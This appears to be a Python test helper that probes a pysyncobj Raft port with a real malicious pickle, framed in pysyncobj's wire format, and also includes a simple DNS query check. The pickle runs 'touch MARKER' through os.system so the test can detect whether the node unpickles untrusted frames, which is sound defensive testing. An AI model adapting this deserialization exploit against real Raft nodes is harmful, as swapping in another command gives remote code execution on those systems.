"""An attacker on a member's Raft port, and a DNS check, usable in-process or inside a network namespace:

    python -m tests.ops.raft_probe attack HOST:PORT MARKER    # prints "closed" when the server hangs up
    python -m tests.ops.raft_probe dns HOST:PORT              # prints the answer's rcode and last 4 bytes

The attack is a real malicious pickle framed as pysyncobj frames its messages (a native-endian 4-byte
length, then zlib-compressed pickle bytes): unpickling it runs ``touch MARKER`` through a shell.
"""

from __future__ import annotations

import os
import pickle
import shlex
import socket
import struct
import sys
import time
import zlib


class _Touch:
    """Unpickling this runs a shell command: what an attacker would send."""

    def __init__(self, marker: str) -> None:
        self.marker = marker

    def __reduce__(self) -> tuple[object, tuple[str]]:
        return os.system, (f"touch {shlex.quote(self.marker)}",)


def malicious_frame(marker: str) -> bytes:
    data = zlib.compress(pickle.dumps(_Touch(marker), 2), 3)
    return struct.pack("i", len(data)) + data


def attack(host: str, port: int, marker: str, timeout: float = 15.0) -> bool:
    """Send the pickle; True when the server closed the connection within ``timeout`` (it has read the
    frame by then: pysyncobj hangs up on a frame it cannot use, after unpickling it or not)."""
    deadline = time.monotonic() + timeout
    with socket.create_connection((host, port), timeout=timeout) as s:
        s.sendall(malicious_frame(marker))
        while time.monotonic() < deadline:
            s.settimeout(max(0.01, deadline - time.monotonic()))
            try:
                if not s.recv(4096):
                    return True
            except TimeoutError:
                break
            except ConnectionResetError:
                return True
    return False


def dns_query(host: str, port: int, name: str = "example.com", timeout: float = 5.0) -> tuple[int, bytes]:
    """One A query over UDP: (rcode, the last 4 bytes of the answer)."""
    labels = b"".join(bytes([len(p)]) + p.encode() for p in name.split("."))
    q = bytes.fromhex("beef01000001000000000000") + labels + b"\x00\x00\x01\x00\x01"
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
        s.settimeout(timeout)
        s.sendto(q, (host, port))
        answer = s.recv(4096)
    assert answer[:2] == b"\xbe\xef", "the answer echoes the query ID"
    return answer[3] & 0x0F, answer[-4:]


def _hostport(value: str) -> tuple[str, int]:
    host, _, port = value.rpartition(":")
    return host, int(port)


if __name__ == "__main__":
    if sys.argv[1] == "attack":
        h, p = _hostport(sys.argv[2])
        print("closed" if attack(h, p, sys.argv[3]) else "open")
    else:
        h, p = _hostport(sys.argv[2])
        try:
            rcode, tail = dns_query(h, p, timeout=1.0)
        except OSError as e:
            print(f"error {e}")
        else:
            print(rcode, ".".join(str(b) for b in tail))
